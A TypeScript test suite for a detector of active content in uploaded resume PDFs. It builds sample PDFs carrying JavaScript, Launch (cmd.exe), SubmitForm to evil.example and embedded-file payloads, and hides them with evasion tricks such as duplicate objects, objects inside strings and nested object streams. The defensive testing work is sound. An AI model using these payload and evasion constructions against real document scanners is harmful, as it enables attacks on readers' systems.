import fc from 'fast-check';
import { strToU8, zlibSync } from 'fflate';
import { describe, expect, it } from 'vitest';

import { findActiveContent } from '../../../worker/ats/extract/pdf-active';
import { AtsInputError } from '../../../worker/ats/extract/sniff';
import { makePdf, SAMPLE_RESUME_PAGES } from '../../fixtures/resume-files';

/**
 * The walk of a PDF's objects for active content (worker/ats/extract/pdf-active.ts) on files built
 * here byte by byte: cross-reference tables and streams (with predictors and /Prev), object
 * streams (filters named directly, by reference, by /F, chained, nested), objects defined twice,
 * objects the table points at inside another stream, and files whose table is gone.
 */

const latin1 = (s: string) => strToU8(s, true);
const concat = (parts: Uint8Array[]) => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
};

/** A stream object: its dictionary (`{LEN}` becomes the data's length) and its raw data. */
interface Stream {
  dict: string;
  data: Uint8Array;
}
type Body = [number, string | Stream][];

/** An object stream holding `members`, packed with `encode` under the dictionary `dict`. */
function objStm(
  members: [number, string][],
  dict = '<< /Type /ObjStm /N {N} /First {FIRST} /Filter /FlateDecode /Length {LEN} >>',
  encode: (b: Uint8Array) => Uint8Array = zlibSync,
): Stream & { members: number[]; first: number } {
  let header = '';
  let body = '';
  for (const [num, text] of members) {
    header += `${num} ${body.length} `;
    body += `${text}\n`;
  }
  return {
    dict: dict.replace('{N}', String(members.length)).replace('{FIRST}', String(header.length)),
    data: encode(latin1(header + body)),
    members: members.map(([num]) => num),
    first: header.length,
  };
}

interface Options {
  /** 'table' (classic), 'stream' (a cross-reference stream, PNG Up predictor), or none at all. */
  xref?: 'table' | 'stream' | 'none';
  /** Object streams: their object number, and the stream (its members get compressed entries). */
  packed?: [number, ReturnType<typeof objStm>][];
  trailer?: string;
  /** Objects the table points at where a marker text first stands in the body (not at an `n g obj` of their own). */
  locate?: Record<number, string>;
}

/** A PDF of `body` objects in order (an object may appear twice: the table points at the last). */
function build(body: Body, options: Options = {}): Uint8Array {
  const parts: Uint8Array[] = [latin1('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  let length = parts[0]!.length;
  const offsets = new Map<number, number>();
  const emit = (num: number, value: string | Stream) => {
    offsets.set(num, length);
    const bytes =
      typeof value === 'string'
        ? latin1(`${num} 0 obj\n${value}\nendobj\n`)
        : concat([
            latin1(`${num} 0 obj\n${value.dict.replace('{LEN}', String(value.data.length))}\nstream\n`),
            value.data,
            latin1('\nendstream\nendobj\n'),
          ]);
    parts.push(bytes);
    length += bytes.length;
  };
  for (const [num, value] of body) emit(num, value);
  const compressed = new Map<number, [number, number]>();
  for (const [num, stream] of options.packed ?? []) {
    emit(num, stream);
    stream.members.forEach((member, i) => compressed.set(member, [num, i]));
  }
  const trailer = options.trailer ?? '/Root 1 0 R';
  const text = new TextDecoder('latin1').decode(concat(parts));
  for (const [num, marker] of Object.entries(options.locate ?? {})) offsets.set(Number(num), text.indexOf(marker));
  const nums = [...offsets.keys(), ...compressed.keys()];
  const size = Math.max(0, ...nums) + 2;
  if (options.xref === 'none') {
    parts.push(latin1(`trailer\n<< /Size ${size} ${trailer} >>\n%%EOF\n`));
  } else if (options.xref === 'stream') {
    const xrefNum = size - 1;
    const xrefAt = length;
    const rows: number[][] = [];
    for (let num = 0; num < size; num++) {
      const packedIn = compressed.get(num);
      if (num === xrefNum) rows.push([1, xrefAt >>> 8, xrefAt & 255, 0]);
      else if (packedIn) rows.push([2, packedIn[0] >>> 8, packedIn[0] & 255, packedIn[1]]);
      else if (offsets.has(num)) rows.push([1, offsets.get(num)! >>> 8, offsets.get(num)! & 255, 0]);
      else rows.push([0, 0, 0, 0]);
    }
    // PNG "Up" rows, as most writers store them.
    const data: number[] = [];
    rows.forEach((row, r) => {
      data.push(2, ...row.map((b, i) => (b - (r > 0 ? rows[r - 1]![i]! : 0)) & 255));
    });
    emit(xrefNum, {
      dict: `<< /Type /XRef /Size ${size} /W [1 2 1] /Filter /FlateDecode /DecodeParms << /Columns 4 /Predictor 12 >> ${trailer} /Length {LEN} >>`,
      data: zlibSync(Uint8Array.from(data)),
    });
    parts.push(latin1(`startxref\n${xrefAt}\n%%EOF\n`));
  } else {
    let table = `xref\n0 ${size}\n0000000000 65535 f \n`;
    for (let num = 1; num < size; num++)
      table += offsets.has(num) ? `${String(offsets.get(num)).padStart(10, '0')} 00000 n \n` : '0000000000 65535 f \n';
    parts.push(latin1(`${table}trailer\n<< /Size ${size} ${trailer} >>\nstartxref\n${length}\n%%EOF\n`));
  }
  return concat(parts);
}

const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const page = (extra = '') => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${extra} >>`;
const JS = "<< /S /JavaScript /JS (app.alert\\('x'\\)) >>";
const plain = (extra: Body = [], pageExtra = ''): Body => [[1, CATALOG], [2, PAGES], [3, page(pageExtra)], ...extra];

function refusal(bytes: Uint8Array): AtsInputError {
  try {
    findActiveContent(bytes);
  } catch (error) {
    if (error instanceof AtsInputError) return error;
    throw error;
  }
  throw new Error('expected the file to be refused');
}

describe('findActiveContent', () => {
  it('finds nothing in a plain resume, whatever its text says about scripts', () => {
    expect(findActiveContent(makePdf(SAMPLE_RESUME_PAGES))).toBeNull();
    expect(findActiveContent(makePdf([['Skills: HTML/JS, /JavaScript /Launch (app.alert)']]))).toBeNull();
    // Names in a page's text are text. (A whole `n g obj` with an action written out in an
    // uncompressed page is not: a reader rebuilding the table takes it for an object; see below.)
    const content = 'BT (/S /JavaScript /JS << /S /Launch >>) Tj ET';
    const withLinks = plain(
      [
        [4, `<< /Length ${content.length} >>\nstream\n${content}\nendstream`],
        [5, '<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /URI /URI (https://example.com) >> >>'],
        [6, '<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /GoTo /D [3 0 R /Fit] >> >>'],
      ],
      '/Contents 4 0 R /Annots [5 0 R 6 0 R]',
    );
    for (const xref of ['table', 'stream', 'none'] as const)
      expect(findActiveContent(build(withLinks, { xref }))).toBeNull();
    const packed = objStm([
      [1, CATALOG],
      [3, page('/Annots [5 0 R]')],
      [5, '<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /URI /URI (https://example.com) >> >>'],
    ]);
    expect(findActiveContent(build([[2, PAGES]], { xref: 'stream', packed: [[9, packed]] }))).toBeNull();
  });

  it.each([
    ['JavaScript', JS],
    ['Launch', '<< /S /Launch /F (cmd.exe) >>'],
    ['SubmitForm', '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>'],
    ['ImportData', '<< /S /ImportData /F (data.fdf) >>'],
    ['GoToE', '<< /S /GoToE /T << /R /C /N (payload) >> >>'],
  ])('finds a %s action wherever an action may sit', (name, action) => {
    const places: Body[] = [
      [
        [1, `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} >>`],
        [2, PAGES],
        [3, page()],
      ],
      [
        [1, `<< /Type /Catalog /Pages 2 0 R /AA << /WC ${action} >> >>`],
        [2, PAGES],
        [3, page()],
      ],
      plain([], `/AA << /O ${action} >>`),
      plain([[4, `<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A ${action} >>`]], '/Annots [4 0 R]'),
      plain([[4, `<< /Type /Annot /Subtype /Widget /FT /Btn /AA << /U ${action} >> >>`]], '/Annots [4 0 R]'),
      // At the end of a chain of harmless actions, behind an indirect reference.
      [
        [1, '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [5 0 R] >> >>'],
        [2, PAGES],
        [3, page()],
        [5, action],
      ],
    ];
    for (const body of places) expect(findActiveContent(build(body))).toBe(`${name} action`);
  });

  it('follows /S through an indirect reference, and decodes #-escaped names', () => {
    const viaRef = plain([
      [4, '<< /S 5 0 R /F (cmd.exe) >>'],
      [5, '/Launch'],
    ]);
    expect(findActiveContent(build(viaRef))).toBe('Launch action');
    expect(findActiveContent(build(plain([[4, '<< /S /J#61vaScript /J#53 (x) >>']])))).toBe('JavaScript action');
  });

  it('finds scripts and embedded files that are no action', () => {
    const cases: [Body, string][] = [
      [
        plain([
          [4, '<< /Names [(a) 5 0 R] >>'],
          [5, '<< /JS (x) >>'],
        ]),
        'script',
      ],
      [
        [
          [1, '<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>'],
          [2, PAGES],
          [3, page()],
          [4, '<< >>'],
        ],
        'script',
      ],
      [
        [
          [1, '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>'],
          [2, PAGES],
          [3, page()],
          [4, '[]'],
        ],
        'XFA form',
      ],
      [
        [
          [1, '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [] >> >> >>'],
          [2, PAGES],
          [3, page()],
        ],
        'embedded file',
      ],
      [
        plain([
          [4, '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>'],
          [5, '<< >>'],
        ]),
        'embedded file',
      ],
      [plain([[4, { dict: '<< /Type /EmbeddedFile /Length {LEN} >>', data: latin1('MZ') }]]), 'embedded file'],
      [
        plain([[4, '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 1 1] /FS (a.exe) >>']], '/Annots [4 0 R]'),
        'file attachment',
      ],
      [
        plain([
          [4, '<< /Type 5 0 R /Length 2 >>'],
          [5, '/EmbeddedFile'],
        ]),
        'embedded file',
      ],
    ];
    for (const [body, found] of cases) expect(findActiveContent(build(body))).toBe(found);
  });

  it('reads object streams however their filters are named', () => {
    const members: [number, string][] = [
      [3, page('/Annots [7 0 R]')],
      [7, `<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A ${JS} >>`],
    ];
    const hex = (b: Uint8Array) => latin1([...b].map((x) => x.toString(16).padStart(2, '0')).join('') + '>');
    const spellings: [string, (b: Uint8Array) => Uint8Array, Body][] = [
      ['<< /Type /ObjStm /N {N} /First {FIRST} /Filter /FlateDecode /Length {LEN} >>', zlibSync, []],
      ['<< /Type /ObjStm /N {N} /First {FIRST} /Length {LEN} >>', (b) => b, []],
      ['<< /N {N} /First {FIRST} /F /Fl /Length {LEN} >>', zlibSync, []],
      // /F as a file specification beside /Filter: PDF.js reads no filter, others /Filter; both are read.
      ['<< /Type /ObjStm /N {N} /First {FIRST} /F (x.bin) /Filter /FlateDecode /Length {LEN} >>', zlibSync, []],
      [
        '<< /Type 20 0 R /N 21 0 R /First 22 0 R /Filter [23 0 R 24 0 R] /Length 25 0 R >>',
        (b) => hex(zlibSync(b)),
        [],
      ],
      [
        '<< /Type /ObjStm /N {N} /First {FIRST} /Filter [/AHx /Fl] /DecodeParms [null << /Predictor 12 /Columns 8 >>] /Length {LEN} >>',
        (b) => {
          const rows: number[] = [];
          const padded = concat([b, new Uint8Array((8 - (b.length % 8)) % 8).fill(32)]);
          for (let i = 0; i < padded.length; i += 8)
            rows.push(1, ...padded.subarray(i, i + 8).map((x, j) => (x - (j > 0 ? padded[i + j - 1]! : 0)) & 255));
          return hex(zlibSync(Uint8Array.from(rows)));
        },
        [],
      ],
    ];
    for (const [dict, encode] of spellings) {
      const packed = objStm(members, dict, encode);
      const refs: Body = [
        [20, '/ObjStm'],
        [21, '2'],
        [22, String(packed.first)],
        [23, '/ASCIIHexDecode'],
        [24, '/FlateDecode'],
        [25, String(packed.data.length)],
      ];
      for (const xref of ['stream', 'table', 'none'] as const)
        expect(
          findActiveContent(build([[1, CATALOG], [2, PAGES], ...refs], { xref, packed: [[9, packed]] })),
          `${dict} ${xref}`,
        ).toBe('JavaScript action');
    }
  });

  it('reads an object stream whose filter is named inside another object stream, and one inside another', () => {
    const inner = objStm([[7, JS]]);
    const outer = objStm([[8, '/FlateDecode']]);
    const needsOuter = objStm([[7, JS]], '<< /Type /ObjStm /N {N} /First {FIRST} /Filter 8 0 R /Length {LEN} >>');
    expect(
      findActiveContent(
        build(plain(), {
          xref: 'stream',
          packed: [
            [10, outer],
            [11, needsOuter],
          ],
        }),
      ),
    ).toBe('JavaScript action');
    // An object stream packed in an object stream (PDF.js reads streams there too): uncompressed, so it fits in text.
    const innerRaw = objStm([[7, JS]], '<< /Type /ObjStm /N {N} /First {FIRST} /Length {LEN} >>', (b) => b);
    const nested = `${innerRaw.dict.replace('{LEN}', String(innerRaw.data.length))}\nstream\n${String.fromCharCode(...innerRaw.data)}\nendstream`;
    expect(findActiveContent(build(plain(), { xref: 'stream', packed: [[12, objStm([[13, nested]])]] }))).toBe(
      'JavaScript action',
    );
    expect(inner.members).toEqual([7]);
  });

  it('counts every version of an object, and objects the table points at inside other data', () => {
    // Object 4 defined twice: the table points at the harmless last one, a reader rebuilding it may take either.
    const twice = build(
      plain(
        [
          [4, JS],
          [4, '<< >>'],
        ],
        '/AA << /O 4 0 R >>',
      ),
    );
    expect(findActiveContent(twice)).toBe('JavaScript action');
    // A string holding an object: a reader rebuilding the table finds it there.
    const hidden = `5 0 obj ${JS} endobj`;
    const cover = build(plain([[4, `<< /Note (${hidden.replace(/[()\\]/g, (c) => `\\${c}`)}) >>`]]));
    expect(findActiveContent(cover)).toBe('JavaScript action');
    // The table points inside another stream's data, at an object whose header a comment splits.
    const inside = `5 %x\n0 obj\n${JS}\nendobj`;
    const body = plain([[4, { dict: '<< /Length {LEN} >>', data: latin1(inside) }]], '/AA << /O 5 0 R >>');
    for (const xref of ['table', 'stream'] as const)
      expect(findActiveContent(build(body, { xref, locate: { 5: '5 %x' } })), xref).toBe('JavaScript action');
  });

  it('reads a file with no cross-reference table, or one that points nowhere', () => {
    const body = plain([[4, '<< /S /Launch /F (cmd.exe) >>']]);
    expect(findActiveContent(build(body, { xref: 'none' }))).toBe('Launch action');
    const wrong = new TextDecoder('latin1').decode(build(body)).replace(/startxref\n\d+/, 'startxref\n99999999');
    expect(findActiveContent(latin1(wrong))).toBe('Launch action');
    const packed = objStm(
      [[4, '<< /S /ImportData /F (x.fdf) >>']],
      '<< /N {N} /First {FIRST} /Filter /FlateDecode /Length {LEN} >>',
    );
    expect(findActiveContent(build(plain(), { xref: 'none', packed: [[9, packed]] }))).toBe('ImportData action');
  });

  it('refuses what it cannot read: other filters, encrypted or bottomless object streams, deep nesting', () => {
    const lzw = objStm([[4, '<< >>']], '<< /Type /ObjStm /N {N} /First {FIRST} /Filter /LZWDecode /Length {LEN} >>');
    expect(refusal(build(plain(), { packed: [[9, lzw]] })).code).toBe('unreadable');
    const encrypted = build(plain([[8, '<< /Filter /Standard /V 4 /R 4 >>']]), {
      xref: 'stream',
      packed: [[9, objStm([[4, '<< >>']])]],
      trailer: '/Root 1 0 R /Encrypt 8 0 R /ID [<00> <00>]',
    });
    expect(refusal(encrypted).code).toBe('encrypted');
    const dangling = objStm([[4, '<< >>']], '<< /Type /ObjStm /N {N} /First {FIRST} /Filter 99 0 R /Length {LEN} >>');
    expect(refusal(build(plain(), { packed: [[9, dangling]] })).code).toBe('unreadable');
    const broken = objStm([[4, '<< >>']], undefined, (b) => b);
    expect(refusal(build(plain(), { packed: [[9, broken]] })).code).toBe('unreadable');
    expect(refusal(build(plain([[4, `${'['.repeat(500)}${']'.repeat(500)}`]]))).code).toBe('unreadable');
  });

  it('does not rewrite the file it reads', () => {
    const bytes = build(plain([[4, JS]]), { xref: 'stream', packed: [[9, objStm([[5, '<< >>']])]] });
    const copy = bytes.slice();
    findActiveContent(bytes);
    expect(bytes).toEqual(copy);
  });

  it('answers or refuses as unreadable on damaged files, never with another error', () => {
    const bytes = build(plain([[4, JS]], '/AA << /O 4 0 R >>'), {
      xref: 'stream',
      packed: [[9, objStm([[5, '<< /S /URI /URI (https://example.com) >>']])]],
    });
    fc.assert(
      fc.property(
        fc.array(fc.tuple(fc.nat(bytes.length - 1), fc.integer({ min: 0, max: 255 })), { maxLength: 8 }),
        fc.nat(bytes.length),
        (edits, cut) => {
          const damaged = bytes.slice(0, Math.max(1, cut));
          for (const [at, value] of edits) if (at < damaged.length) damaged[at] = value;
          try {
            const found = findActiveContent(damaged);
            expect(found === null || typeof found === 'string').toBe(true);
          } catch (error) {
            expect(error).toBeInstanceOf(AtsInputError);
          }
        },
      ),
      { numRuns: 300 },
    );
  });
});
